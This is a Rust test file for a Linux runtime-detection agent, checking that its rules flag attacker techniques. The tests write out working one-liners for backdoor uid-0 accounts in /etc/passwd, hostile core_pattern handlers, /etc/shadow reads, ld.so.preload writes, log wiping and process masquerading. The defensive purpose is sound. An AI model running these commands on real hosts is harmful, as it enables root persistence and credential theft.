    assert_eq!(
        f[0].context.additional.get("value").map(String::as_str),
        Some("0")
    );

    let dir = Scratch::new("core-flip");
    let handler = dir.path("handler");
    std::fs::copy("/bin/true", &handler).expect("copy /bin/true");
    let pid = sh(&format!(
        "echo '|{handler} %p' > {core}; echo core > {core}"
    ));
    assert_eq!(read(core), "core", "the script put the core pattern back");
    let found = detect(pid);
    let f = of(&found, "behaviour-core-pattern-handler");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].context
            .additional
            .get("coreHandler")
            .map(String::as_str),
        Some(handler.as_str())
    );

    // The values they had, written again: nothing.
    let pid = sh(&format!(
        "echo 2 > {aslr}; sysctl -q -w kernel.kptr_restrict=1; echo core > {core}"
    ));
    let found = detect(pid);
    assert!(found.is_empty(), "{:?}", kinds(&found));
}

/// The container-escape and root-hook step: core dumps piped into a program of the attacker's
/// (`echo '|/path/x %p' > /proc/sys/kernel/core_pattern`, which the kernel then runs as root in
/// the host's namespaces when anything crashes), by a shell redirection and by sysctl. A
/// distribution's handler in a system directory and a plain file pattern raise nothing. The
/// handler here is a copy of /bin/true, and the setting is put back when the test ends.
#[test]
fn core_dumps_piped_into_a_program_of_its_own() {
    if !privileged("core_dumps_piped_into_a_program_of_its_own") {
        return;
    }
    let _one_at_a_time = SETTINGS.lock().unwrap_or_else(|e| e.into_inner());
    let path = "/proc/sys/kernel/core_pattern";
    let Ok(was) = std::fs::read_to_string(path) else {
        eprintln!("NOT TESTED: {path} is missing on this kernel");
        return;
    };
    let dir = Scratch::new("core");
    let handler = dir.path("handler");
    std::fs::copy("/bin/true", &handler).expect("copy /bin/true");
    let _restore = RestoreSettings(vec![(path, was.trim_end_matches('\n').to_owned())]);
    for pid in [
        sh(&format!("echo '|{handler} %p %s' > {path}")),
        run(Command::new("sysctl").args([
            "-q",
            "-w",
            &format!("kernel.core_pattern=|{handler} %p"),
        ])),
    ] {
        let found = detect(pid);
        let f = of(&found, "behaviour-core-pattern-handler");
        assert_eq!(f.len(), 1, "{:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "PrivilegeEscalation:Runtime/SuspiciousCommand"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::High);
        let a = &f[0].context.additional;
        assert_eq!(
            a.get("coreHandler").map(String::as_str),
            Some(handler.as_str())
        );
        assert!(
            a.get("value")
                .is_some_and(|v| v.starts_with(&format!("|{handler} %p"))),
            "{a:?}"
        );
        assert_eq!(f[0].context.file_path.as_deref(), Some(path));
    }
    // What distributions and administrators set: nothing.
    for value in [
        "|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h",
        "core",
        "/var/crash/core.%e.%p",
    ] {
        let pid = sh(&format!("echo '{value}' > {path}"));
        let found = detect(pid);
        assert!(found.is_empty(), "{value}: {:?}", kinds(&found));
    }
}

#[test]
fn aslr_off_for_one_program_and_logs_removed_by_a_glob() {
    if !privileged("aslr_off_for_one_program_and_logs_removed_by_a_glob") {
        return;
    }
    let arch = std::env::consts::ARCH;
    // From a shell, as a test script runs it (the shell's tree holds setarch's exec and then
    // the program's, in the same process).
    let pid = sh(&format!("setarch {arch} -R /bin/true; true"));
    let found = detect(pid);
    let f = of(&found, "evasion-aslr-off-for-a-program");
    assert_eq!(f.len(), 1, "setarch -R: {:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "DefenseEvasion:Runtime/SuspiciousCommand"
    );
    let pid = sh(&format!(
        "setarch {arch} /bin/ls -R /proc/self/fdinfo >/dev/null; true"
    ));
    assert!(detect(pid).is_empty(), "setarch running ls -R");

    // `rm -rf /var/log/*`, on entries of its own: rm receives the expanded glob.
    let n = nonce();
    let mut clean = Cleanup::default();
    for x in ["a", "b", "c"] {
        let p = clean.file(format!("/var/log/vigil-{n}-{x}"));
        std::fs::write(&p, "vigil test\n").expect("a log");
    }
    let pid = sh(&format!("rm -rf /var/log/vigil-{n}-*"));
    let found = detect(pid);
    assert_eq!(
        of(&found, "evasion-wipe-logs").len(),
        1,
        "{:?}",
        kinds(&found)
    );
    // One old log removed: not wiping.
    let one = clean.file(format!("/var/log/vigil-{n}-old.1"));
    std::fs::write(&one, "vigil test\n").expect("a log");
    let pid = run(Command::new("rm").args(["-f", &one]));
    assert!(
        of(&detect(pid), "evasion-wipe-logs").is_empty(),
        "rm -f one log"
    );
}

#[test]
fn a_second_root_account_created_with_useradd() {
    if !privileged("a_second_root_account_created_with_useradd") {
        return;
    }
    // Short: account names are at most 32 characters.
    let _one_at_a_time = ACCOUNTS.lock().unwrap_or_else(|e| e.into_inner());
    let name = format!("vgl{}r", std::process::id());
    let account = UndoOnDrop::new("userdel", &["-f", &name]);
    let pid = run(Command::new("useradd").args([
        "-o",
        "-u",
        "0",
        "-g",
        "0",
        "-M",
        "-d",
        "/nonexistent",
        "-s",
        "/usr/sbin/nologin",
        &name,
    ]));
    let found = detect(pid);
    let f = of(&found, "privesc-root-account-created");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "PrivilegeEscalation:Runtime/SuspiciousCommand"
    );
    drop(account);
    let passwd = std::fs::read_to_string("/etc/passwd").expect("passwd");
    assert!(
        !passwd.lines().any(|l| l.starts_with(&format!("{name}:"))),
        "the account was removed"
    );
    // An ordinary system account: nothing.
    let name = format!("vgl{}s", std::process::id());
    let _account = UndoOnDrop::new("userdel", &["-f", &name]);
    let pid = run(Command::new("useradd").args([
        "-r",
        "-M",
        "-d",
        "/nonexistent",
        "-s",
        "/usr/sbin/nologin",
        &name,
    ]));
    assert!(detect(pid).is_empty(), "useradd -r");
}

/// Held by the tests that add accounts: a second root account one adds would be seen by the
/// other's benign cases, which read `/etc/passwd` back.
static ACCOUNTS: std::sync::Mutex<()> = std::sync::Mutex::new(());

/// Removes the lines of `name` from `/etc/passwd` and `/etc/shadow` when dropped (written by
/// the test process, which the agent does not observe; other lines are left as they are).
struct AccountLines(String);

impl Drop for AccountLines {
    fn drop(&mut self) {
        for file in ["/etc/passwd", "/etc/shadow"] {
            let Ok(text) = std::fs::read_to_string(file) else {
                continue;
            };
            let prefix = format!("{}:", self.0);
            if text.lines().any(|l| l.starts_with(&prefix)) {
                let kept: String = text
                    .lines()
                    .filter(|l| !l.starts_with(&prefix))
                    .map(|l| format!("{l}\n"))
                    .collect();
                let _ = std::fs::write(file, kept);
            }
        }
    }
}

/// The uid-0 accounts a finding names (`behaviour-root-account-added`).
fn root_accounts_raised(found: &[Finding]) -> Vec<(String, SeverityLabel)> {
    of(found, "behaviour-root-account-added")
        .into_iter()
        .map(|f| {
            assert_eq!(
                f.finding_type,
                "PrivilegeEscalation:Runtime/SuspiciousCommand"
            );
            let account = f.context.additional.get("account").cloned();
            (account.unwrap_or_default(), f.severity_label)
        })
        .collect()
}

/// A uid-0 line in `/etc/passwd`, however it got there, read back from the file after the
/// write: appended by a script line, `useradd -o -u 0`, `usermod -o -u 0`. An ordinary account
/// added, its password set, and `vipw` closed without a change raise nothing.
#[test]
fn a_second_root_account_read_back_from_the_account_database() {
    if !privileged("a_second_root_account_read_back_from_the_account_database") {
        return;
    }
    let _one_at_a_time = ACCOUNTS.lock().unwrap_or_else(|e| e.into_inner());
    let id = std::process::id();
    // Benign first: no second root account may exist while they run.
    let plain = format!("vgl{id}p");
    let plain_lines = AccountLines(plain.clone());
    let plain_account = UndoOnDrop::new("userdel", &["-f", &plain]);
    let pid = sh(&format!(
        "useradd -M -d /nonexistent -s /usr/sbin/nologin {plain} && \
         echo '{plain}:Vigil-test-pw-1' | chpasswd && passwd -l {plain} >/dev/null && \
         EDITOR=true vipw >/dev/null 2>&1; true"
    ));
    let found = detect(pid);
    assert!(
        root_accounts_raised(&found).is_empty(),
        "useradd, chpasswd, passwd -l, vipw: {:?}",
        kinds(&found)
    );
    // A line appended by a script: only the file says who has uid 0.
    let appended = format!("vgl{id}a");
    let lines = AccountLines(appended.clone());
    let pid = sh(&format!(
        "echo '{appended}:x:0:0::/root:/bin/sh' >> /etc/passwd"
    ));
    assert_eq!(
        root_accounts_raised(&detect(pid)),
        [(appended.clone(), SeverityLabel::High)]
    );
    drop(lines);
    // The ordinary account given uid 0.
    let pid = sh(&format!("usermod -o -u 0 {plain}"));
    assert_eq!(
        root_accounts_raised(&detect(pid)),
        [(plain.clone(), SeverityLabel::High)]
    );
    drop(plain_account);
    drop(plain_lines);
    // useradd -o -u 0: the file as useradd renamed it into place.
    let made = format!("vgl{id}o");
    let _made = AccountLines(made.clone());
    let _undo = UndoOnDrop::new("userdel", &["-f", &made]);
    let pid = sh(&format!(
        "useradd -o -u 0 -g 0 -M -d /nonexistent -s /usr/sbin/nologin {made}"
    ));
    assert_eq!(
        root_accounts_raised(&detect(pid)),
        [(made.clone(), SeverityLabel::High)]
    );
}

/// The account files and the backups the account tools keep, put back as they were when
/// dropped, whether the test passed or not (written by the test process, which the agent does
/// not observe).
struct RestoreAccountFiles {
    _files: Vec<RestoreFile>,
}

impl RestoreAccountFiles {
    fn new() -> Self {
        let files = ["passwd", "shadow", "group", "gshadow", "subuid", "subgid"];
        Self {
            _files: files
                .iter()
                .flat_map(|f| [format!("/etc/{f}"), format!("/etc/{f}-")])
                .map(|path| RestoreFile::new(&path))
                .collect(),
        }
    }
}

/// `(ruleId, account, group, severity, executable)` of each account-grant finding.
fn account_grants_raised(
    found: &[Finding],
) -> Vec<(String, String, Option<String>, SeverityLabel, String)> {
    let mut out: Vec<_> = found
        .iter()
        .filter(|f| {
            matches!(
                rule(f),
                "behaviour-root-account-added"
                    | "behaviour-passwordless-account"
                    | "behaviour-admin-group-member-added"
            )
        })
        .map(|f| {
            assert_eq!(
                f.finding_type,
                "PrivilegeEscalation:Runtime/SuspiciousCommand"
            );
            let a = &f.context.additional;
            (
                rule(f).to_owned(),
                a.get("account").cloned().unwrap_or_default(),
                a.get("group").cloned(),
                f.severity_label,
                f.process
                    .as_ref()
                    .map(|p| p.executable_path.clone())
                    .unwrap_or_default(),
            )
        })
        .collect();
    out.sort();
    out
}

/// The findings at Medium or above.
fn serious(found: &[Finding]) -> Vec<(String, String)> {
    let serious: Vec<Finding> = found
        .iter()
        .filter(|f| f.severity_label >= SeverityLabel::Medium)
        .cloned()
        .collect();
    kinds(&serious)
}

/// What the account files grant, read back after each change whoever made it (Atomic Red Team
/// T1136.001, Elastic's suspicious passwd write, PANIX's passwd and backdoor-user modules):
/// a uid-0 line appended by a shell, by `sed -i`, by python, an edited copy put in place by
/// `cp` and by `mv`, `useradd -o -u 0 -g 0`; a password emptied (`passwd -d`, a `::` line);
/// `usermod -aG sudo`. An ordinary account added, renamed (`chfn`), its password set, and
/// removed, a system account added, and the files rewritten with the same grants raise nothing
/// at Medium or above.
#[test]
fn account_grants_read_back_from_the_account_files() {
    if !privileged("account_grants_read_back_from_the_account_files") {
        return;
    }
    let _one_at_a_time = ACCOUNTS.lock().unwrap_or_else(|e| e.into_inner());
    let _restore = RestoreAccountFiles::new();
    let id = std::process::id();
    let account = |tag: char| format!("vigilt{id}{tag}");
    let shell = std::fs::canonicalize("/bin/sh")
        .expect("/bin/sh")
        .display()
        .to_string();
    let root_added = |name: &str, exe: &str| {
        (
            "behaviour-root-account-added".to_owned(),
            name.to_owned(),
            None,
            SeverityLabel::High,
            exe.to_owned(),
        )
    };

    // Benign first: an ordinary account's life, a system account, the same grants rewritten.
    let plain = account('z');
    let system = account('s');
    let _undo_plain = UndoOnDrop::new("userdel", &["-f", &plain]);
    let _undo_system = UndoOnDrop::new("userdel", &["-f", &system]);
    let pid = sh(&format!(
        "useradd -M -d /nonexistent -s /usr/sbin/nologin {plain} && chfn -f 'Vigil Test' {plain} && \
         echo '{plain}:Vigil-test-pw-2' | chpasswd && userdel {plain} && \
         adduser --quiet --system --no-create-home {system}"
    ));
    let found = detect(pid);
    assert!(
        serious(&found).is_empty(),
        "useradd, chfn, chpasswd, userdel, adduser --system: {:?}",
        kinds(&found)
    );
    // The file rewritten by hand with the same grants: the file-level finding says it changed,
    // and nothing was granted.
    let pid = sh(&format!(
        "cp -p /etc/passwd /etc/passwd.vigilt{id} && mv /etc/passwd.vigilt{id} /etc/passwd && \
         cp -p /etc/group /etc/group.vigilt{id} && mv /etc/group.vigilt{id} /etc/group"
    ));
    let found = detect(pid);
    assert!(
        account_grants_raised(&found).is_empty(),
        "passwd and group rewritten unchanged: {:?}",
        kinds(&found)
    );

    // A uid-0 line appended by the shell itself (its `>>`).
    let name = account('e');
    let pid = sh(&format!(
        "echo \"{name}:$(openssl passwd -6 pw):0:0::/root:/bin/bash\" >> /etc/passwd"
    ));
    assert_eq!(
        account_grants_raised(&detect(pid)),
        [root_added(&name, &shell)],
        "echo >>"
    );
    // sed -i writes a copy and renames it over the file.
    let name = account('d');
    let pid = run(Command::new("sed").args([
        "-i",
        &format!("$a {name}:x:0:0::/root:/bin/sh"),
        "/etc/passwd",
    ]));
    let sed = which("sed").expect("sed");
    let sed = std::fs::canonicalize(sed)
        .expect("sed")
        .display()
        .to_string();
    assert_eq!(
        account_grants_raised(&detect(pid)),
        [root_added(&name, &sed)],
        "sed -i"
    );
    // python appending.
    let name = account('p');
    let pid = run(Command::new("python3").args([
        "-c",
        &format!("open('/etc/passwd', 'a').write('{name}:x:0:0::/root:/bin/sh\\n')"),
    ]));
    let found = detect(pid);
    let grants = account_grants_raised(&found);
    assert_eq!(grants.len(), 1, "python: {:?}", kinds(&found));
    assert_eq!(grants[0].1, name, "python");
    assert!(grants[0].4.contains("python"), "python: {grants:?}");
    // An edited copy put in place by cp (written into the file) and by mv (renamed over it).
    let copy = format!("/etc/passwd.vigilt{id}");
    let _copy = RestoreFile::new(&copy);
    for (tool, tag) in [("cp", 'c'), ("mv", 'm')] {
        let name = account(tag);
        std::fs::write(
            &copy,
            format!(
                "{}{name}:x:0:0::/root:/bin/sh\n",
                std::fs::read_to_string("/etc/passwd").expect("passwd")
            ),
        )
        .expect("edited copy");
        let pid = run(Command::new(tool).args([&copy, "/etc/passwd"]));
        let exe = std::fs::canonicalize(which(tool).expect(tool))
            .expect(tool)
            .display()
            .to_string();
        assert_eq!(
            account_grants_raised(&detect(pid)),
            [root_added(&name, &exe)],
            "{tool}"
        );
    }

    // useradd -o -u 0 -g 0: the real account tool is as bad as echo.
    let name = account('x');
    let _undo = UndoOnDrop::new("userdel", &["-f", &name]);
    let pid = run(Command::new("useradd").args([
        "-o",
        "-u",
        "0",
        "-g",
        "0",
        "-M",
        "-d",
        "/nonexistent",
        "-s",
        "/usr/sbin/nologin",
        &name,
    ]));
    assert_eq!(
        account_grants_raised(&detect(pid)),
        [root_added(&name, "/usr/sbin/useradd")],
        "useradd -o -u 0"
    );

    // usermod -aG sudo (the group made first where the host has none).
    let member = account('y');
    let _undo_member = UndoOnDrop::new("userdel", &["-f", &member]);
    let _undo_group = std::process::Command::new("getent")
        .args(["group", "sudo"])
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| !s.success())
        .then(|| {
            run(Command::new("groupadd").arg("sudo"));
            UndoOnDrop::new("groupdel", &["sudo"])
        });
    run(Command::new("useradd").args([
        "-M",
        "-d",
        "/nonexistent",
        "-s",
        "/usr/sbin/nologin",
        &member,
    ]));
    let pid = run(Command::new("usermod").args(["-aG", "sudo", &member]));
    assert_eq!(
        account_grants_raised(&detect(pid)),
        [(
            "behaviour-admin-group-member-added".to_owned(),
            member.clone(),
            Some("sudo".to_owned()),
            SeverityLabel::Medium,
            "/usr/sbin/usermod".to_owned()
        )],
        "usermod -aG sudo"
    );
    // Its password deleted: no password asked.
    let pid = run(Command::new("passwd").args(["-d", &member]));
    assert_eq!(
        account_grants_raised(&detect(pid)),
        [(
            "behaviour-passwordless-account".to_owned(),
            member.clone(),
            None,
            SeverityLabel::Medium,
            "/usr/bin/passwd".to_owned()
        )],
        "passwd -d"
    );
    // A uid-0 line with an empty password field: both.
    let name = account('n');
    let pid = sh(&format!("echo '{name}::0:0::/root:/bin/sh' >> /etc/passwd"));
    let mut want = vec![
        (
            "behaviour-passwordless-account".to_owned(),
            name.clone(),
            None,
            SeverityLabel::High,
            shell.clone(),
        ),
        root_added(&name, &shell),
    ];
    want.sort();
    assert_eq!(account_grants_raised(&detect(pid)), want, "x::0:0");
}

/// The password hashes read by whatever program and path: the kernel reports the open of the
/// file itself, so no command line has to name it. Atomic Red Team T1003.008 #5 reads it with
/// a shell's `while read` loop in a script; a program opens it relative to `/etc`, through a
/// symbolic link to `/etc` or a renamed `cat`.
#[test]
fn the_password_hashes_read_however_the_path_is_written() {
    if !privileged("the_password_hashes_read_however_the_path_is_written") {
        return;
    }
    let dir = Scratch::new("shadow");
    std::os::unix::fs::symlink("/etc", dir.path("etc")).expect("link to /etc");
    let reader = dir.path("reader");
    std::fs::copy("/bin/cat", &reader).expect("copy cat");
    let read = "import sys; open(sys.argv[1]).read()";
    let cases = [
        (
            "a while-read loop in a script",
            sh_file(
                &dir,
                "loop.sh",
                "dump() { while read -r line; do echo \"$line\"; done < /etc/shadow; }\ndump >/dev/null\n",
            ),
        ),
        (
            "python by its absolute path",
            run(Command::new("python3").args(["-c", read, "/etc/shadow"])),
        ),
        (
            "python relative to /etc",
            run(Command::new("python3")
                .args(["-c", read, "gshadow"])
                .current_dir("/etc")),
        ),
        (
            "python through a link to /etc",
            run(Command::new("python3").args(["-c", read, &dir.path("etc/shadow")])),
        ),
        (
            "a renamed cat, the path padded",
            run(Command::new(&reader).arg("/etc/.//shadow")),
        ),
    ];
    for (what, pid) in cases {
        let found = detect(pid);
        let f = of(&found, "discovery-shadow-read");
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type, "Discovery:Runtime/SuspiciousCommand",
            "{what}"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::Medium, "{what}");
        let file = f[0].context.file_path.as_deref().unwrap_or("");
        assert!(
            file == "/etc/shadow" || file == "/etc/gshadow",
            "{what}: {file}"
        );
    }
    // Their job: the shadow suite's daily check reads the hashes. A file named `shadow`
    // elsewhere is not them.
    std::fs::write(dir.path("shadow"), "not the hashes\n").expect("decoy");
    for (what, pid) in [
        ("pwck -r", run(Command::new("pwck").args(["-r", "-q"]))),
        (
            "a file named shadow elsewhere",
            run(Command::new("python3").args(["-c", read, &dir.path("shadow")])),
        ),
    ] {
        let found = detect(pid);
        assert!(
            of(&found, "discovery-shadow-read").is_empty(),
            "{what}: {:?}",
            kinds(&found)
        );
    }
}

#[test]
fn the_loader_preload_list_written_from_a_script() {
    if !privileged("the_loader_preload_list_written_from_a_script") {
        return;
    }
    let path = "/etc/ld.so.preload";
    // Opened for appending and nothing written: every program on the machine reads this file,
    // so its content is left as it was (an empty file when it did not exist, removed after).
    let existed = Path::new(path).exists();
    let mut clean = Cleanup::default();
    if !existed {
        clean.file(path);
    }
    let scratch = Scratch::new("preload");
    let pid = sh_file(&scratch, "preload.sh", &format!(": >> {path}\n"));
    let found = detect(pid);
    let f = of(&found, "behaviour-ld-preload-file");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "DefenseEvasion:Runtime/SuspiciousCommand"
    );
    assert_eq!(f[0].severity_label, SeverityLabel::High);
    assert_eq!(f[0].context.file_path.as_deref(), Some(path));
    // Reading it: nothing.
    let pid = sh_file(&scratch, "read.sh", &format!("cat {path} >/dev/null\n"));
    let found = detect(pid);
    assert!(found.is_empty(), "read: {:?}", kinds(&found));
}

/// A thread renamed by `prctl(PR_SET_NAME)` to a kernel thread's name (`[kworker/1:1]` from the
/// main thread, `kswapd0` from a second one: miners hide in `ps` so) raises
/// `behaviour-masquerading` (High) with the names before and after, read from the kernel; a
/// thread named after its work (`worker-1`, what pools and runtimes do) raises nothing, though
/// its rename is seen.
#[test]
fn a_thread_renamed_to_a_kernel_threads_name() {
    if !privileged("a_thread_renamed_to_a_kernel_threads_name") {
        return;
    }
    // Every way a process renames a thread: prctl from the main thread or another, a write to
    // its procfs comm file, a write to another thread's (pthread_setname_np does that).
    #[derive(Clone, Copy, Debug, PartialEq)]
    enum How {
        Prctl,
        PrctlInThread,
        ProcSelfComm,
        ProcOtherThread,
    }
    let rename = |name: &str, how: How| -> u32 {
        let call = format!("ctypes.CDLL(None).prctl(15, b'{name}', 0, 0, 0)");
        let program = match how {
            How::Prctl => format!("import ctypes\n{call}"),
            How::PrctlInThread => format!(
                "import ctypes, threading\nt = threading.Thread(target=lambda: {call})\nt.start(); t.join()"
            ),
            How::ProcSelfComm => format!("open('/proc/self/comm', 'w').write('{name}')"),
            How::ProcOtherThread => format!(
                "import threading\ngo = threading.Event()\nt = threading.Thread(target=go.wait)\nt.start()\n\
                 open('/proc/self/task/%d/comm' % t.native_id, 'w').write('{name}')\ngo.set(); t.join()"
            ),
        };
        run(Command::new("python3").args(["-c", &program]))
    };
    let procfs = AGENT
        .hooks()
        .iter()
        .any(|h| h.hook == "rename" && h.mechanism == "tp_btf" && h.state == HookState::Active);
    if !procfs {
        let message = format!(
            "a_thread_renamed_to_a_kernel_threads_name: NOT TESTED: renames through procfs comm \
             files (the rename sensor is not on task_rename here: {:?})",
            AGENT.hooks().iter().find(|h| h.hook == "rename")
        );
        assert!(std::env::var_os("CI").is_none(), "{message}");
        eprintln!("{message}");
    }
    for (name, how) in [
        ("[kworker/1:1]", How::Prctl),
        ("kswapd0", How::PrctlInThread),
        ("kworker/0:2", How::ProcSelfComm),
        ("[ksoftirqd/1]", How::ProcOtherThread),
    ] {
        if !procfs && matches!(how, How::ProcSelfComm | How::ProcOtherThread) {
            continue;
        }
        let pid = rename(name, how);
        let events = tree_events(pid);
        let renamed: Vec<_> = events
            .iter()
            .filter_map(|e| match e {
                Event::Activity(a)
                    if a.operation == "rename" && a.name.as_deref() == Some(name) =>
                {
                    Some((
                        a.source.clone(),
                        a.name.clone(),
                        // Called from the main thread; renamed the calling thread.
                        a.process.pid == a.process.tid,
                        a.target_pid.is_none_or(|t| t == a.process.tid),
                    ))
                }
                _ => None,
            })
            .collect();
        assert_eq!(
            renamed,
            [(
                Some("python3".to_owned()),
                Some(name.to_owned()),
                how != How::PrctlInThread,
                how != How::ProcOtherThread,
            )],
            "{name} by {how:?}"
        );
        let mut d = detector();
        let found: Vec<Finding> = events
            .iter()
            .flat_map(|e| d.process(e, &NoLookup))
            .map(|o| o.finding)
            .collect();
        let f = of(&found, "behaviour-masquerading");
        assert_eq!(f.len(), 1, "{name} by {how:?}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "DefenseEvasion:Runtime/SuspiciousCommand"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::High);
        let add = &f[0].context.additional;
        assert_eq!(add.get("nameBefore").map(String::as_str), Some("python3"));
        assert_eq!(add.get("nameAfter").map(String::as_str), Some(name));
        assert!(
            f[0].context
                .file_path
                .as_deref()
                .is_some_and(|exe| exe.contains("python3")),
            "{:?}",
            f[0].context.file_path
        );
    }
    let pid = rename("worker-1", How::PrctlInThread);
    let events = tree_events(pid);
    assert!(
        events
            .iter()
            .any(|e| matches!(e, Event::Activity(a) if a.operation == "rename")),
        "the benign rename was not seen"
    );
    let mut d = detector();
    let found: Vec<Finding> = events
        .iter()
        .flat_map(|e| d.process(e, &NoLookup))
        .map(|o| o.finding)
        .collect();
    assert!(
        of(&found, "behaviour-masquerading").is_empty(),
        "{:?}",
        kinds(&found)
    );
}

/// A program taking a system daemon's name (`behaviour.daemonNames`) so that `ps` lists it
/// among the services: python renaming its thread `sshd` with prctl and `crond` through its
/// procfs comm file, and a copy of /bin/true named `sshd` run from a scratch directory of
/// `/tmp`, each raise `behaviour-masquerading` (Medium). A copy named `sshd-test` in the same
/// place raises no masquerading.
#[test]
fn a_program_taking_a_daemons_name() {
    if !privileged("a_program_taking_a_daemons_name") {
        return;
    }
    let masquerading = |pid: u32| -> Vec<Finding> {
        let mut d = detector();
        let found: Vec<Finding> = tree_events(pid)
            .iter()
            .flat_map(|e| d.process(e, &NoLookup))
            .map(|o| o.finding)
            .collect();
        of(&found, "behaviour-masquerading")
            .into_iter()
            .cloned()
            .collect()
    };
    let procfs = AGENT
        .hooks()
        .iter()
        .any(|h| h.hook == "rename" && h.mechanism == "tp_btf" && h.state == HookState::Active);
    let mut renames = vec![(
        "sshd",
        "prctl(PR_SET_NAME)",
        "import ctypes\nctypes.CDLL(None).prctl(15, b'sshd', 0, 0, 0)".to_owned(),
    )];
    if procfs {
        renames.push((
            "crond",
            "write to a procfs comm file",
            "open('/proc/self/comm', 'w').write('crond')".to_owned(),
        ));
    } else {
        let message = "a_program_taking_a_daemons_name: NOT TESTED: a rename through a procfs \
                       comm file (the rename sensor is not on task_rename here)";
        assert!(std::env::var_os("CI").is_none(), "{message}");
        eprintln!("{message}");
    }
    for (name, how, program) in renames {
        let pid = run(Command::new("python3").args(["-c", &program]));
        let f = masquerading(pid);
        assert_eq!(f.len(), 1, "{name} by {how}: {f:?}");
        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
        let add = &f[0].context.additional;
        assert_eq!(add.get("nameAfter").map(String::as_str), Some(name));
        assert_eq!(
            add.get("masquerade").map(String::as_str),
            Some(format!("a thread renamed to a system daemon's name ({how})").as_str())
        );
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let dir = format!("/tmp/vigil-daemon-{n}");
    clean.dirs(Path::new(&dir));
    for (name, expected) in [("sshd", 1), ("sshd-test", 0)] {
        let file = clean.file(format!("{dir}/{name}"));
        std::fs::copy("/bin/true", &file).expect("copy");
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        let f = masquerading(run(&mut Command::new(&file)));
        assert_eq!(f.len(), expected, "{file}: {f:?}");
        if let Some(f) = f.first() {
            assert_eq!(f.severity_label, SeverityLabel::Medium);
            assert_eq!(f.context.file_path.as_deref(), Some(file.as_str()));
        }
    }
}

/// Hidden programs (T1564.001) and masquerading (T1036), as third-party tests write them
/// (issue 11, third red-team pass): a copy of /bin/true hidden as `/tmp/.x/.y` and in a hidden
/// directory of `/var/tmp`; `exec -a '[kworker/0:1]' sh` (an argv[0] shaped like a kernel
/// thread's), `exec -a sshd bash`; a copy of /bin/sh named `sshd` in `/var/tmp` (known by its
/// bytes: the detector has the installed programs' hashes, as the agent builds it). A hidden
/// scratch directory of Rust's tempfile (`.tmp...`), a hidden directory outside the listed
/// places, login shells' `-bash` and `sh -c` raise neither.
#[test]
fn programs_hidden_or_dressed_up_as_others() {
    if !privileged("programs_hidden_or_dressed_up_as_others") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let stage = |clean: &mut Cleanup, dir: String, name: &str, from: &str| -> String {
        clean.dirs(Path::new(&dir));
        let file = clean.file(format!("{dir}/{name}"));
        std::fs::copy(from, &file).expect("copy");
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        file
    };
    let hidden_tmp = stage(&mut clean, format!("/tmp/.vigil-{n}"), ".y", "/bin/true");
    let hidden_var = stage(&mut clean, format!("/var/tmp/.vigil-{n}"), "y", "/bin/true");
    let tempfile_dir = stage(&mut clean, format!("/tmp/.tmpvigil{n}"), "y", "/bin/true");
    let elsewhere = stage(
        &mut clean,
        format!("{}/.vigil-{n}", env!("CARGO_TARGET_TMPDIR")),
        ".y",
        "/bin/true",
    );
    let sshd = stage(&mut clean, format!("/var/tmp/vigil-{n}"), "sshd", "/bin/sh");

    for exe in [&hidden_tmp, &hidden_var] {
        let found = detect(run(&mut Command::new(exe)));
        let f = of(&found, "behaviour-hidden-program");
        assert_eq!(f.len(), 1, "{exe}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "DefenseEvasion:Runtime/SuspiciousCommand"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
        assert_eq!(f[0].context.file_path.as_deref(), Some(exe.as_str()));
    }
    for exe in [&tempfile_dir, &elsewhere] {
        let found = detect(run(&mut Command::new(exe)));
        assert!(of(&found, "behaviour-hidden-program").is_empty(), "{exe}");
    }

    let masquerades = |found: &[Finding]| -> Vec<(String, SeverityLabel)> {
        of(found, "behaviour-masquerading")
            .into_iter()
            .map(|f| {
                assert_eq!(f.finding_type, "DefenseEvasion:Runtime/SuspiciousCommand");
                (
                    f.context
                        .additional
                        .get("masquerade")
                        .cloned()
                        .unwrap_or_default(),
                    f.severity_label,
                )
            })
            .collect()
    };
    let pid = run(Command::new("bash").args(["-c", "exec -a '[kworker/0:1]' sh -c true"]));
    assert_eq!(
        masquerades(&detect(pid)),
        [(
            "an argv[0] shaped like a kernel thread's name".to_owned(),
            SeverityLabel::High
        )]
    );
    let pid = run(Command::new("bash").args(["-c", "exec -a sshd bash -c true"]));
    assert_eq!(
        masquerades(&detect(pid)),
        [(
            "a shell started under another program's name".to_owned(),
            SeverityLabel::Medium
        )]
    );
    // The copy of sh, by its bytes: a detector with the installed programs' hashes.
    let rules = node_agent::detect::RuleSet::builtin().expect("built-in rules");
    let tools = node_agent::tool_hashes::installed_on_host(rules.program_names());
    let mut d = detector().with_tool_hashes(tools.by_digest);
    let pid = run(Command::new(&sshd).args(["-c", "true"]));
    let mut found = Vec::new();
    for event in tree_events(pid) {
        found.extend(d.process(&event, &NoLookup).into_iter().map(|o| o.finding));
    }
    assert_eq!(
        masquerades(&found),
        [(
            "a copy of a shell under another program's name".to_owned(),
            SeverityLabel::Medium
        )]
    );
    // Names that imitate others (Atomic Red Team's T1036.005 #1 and T1036.006 #2): a copy of
    // sh in a directory named `...` (in a home too: the atomic uses `$HOME/...`), a copy run
    // under a name ending in spaces. Benign: a space inside a name, dots inside a name.
    let dots = stage(
        &mut clean,
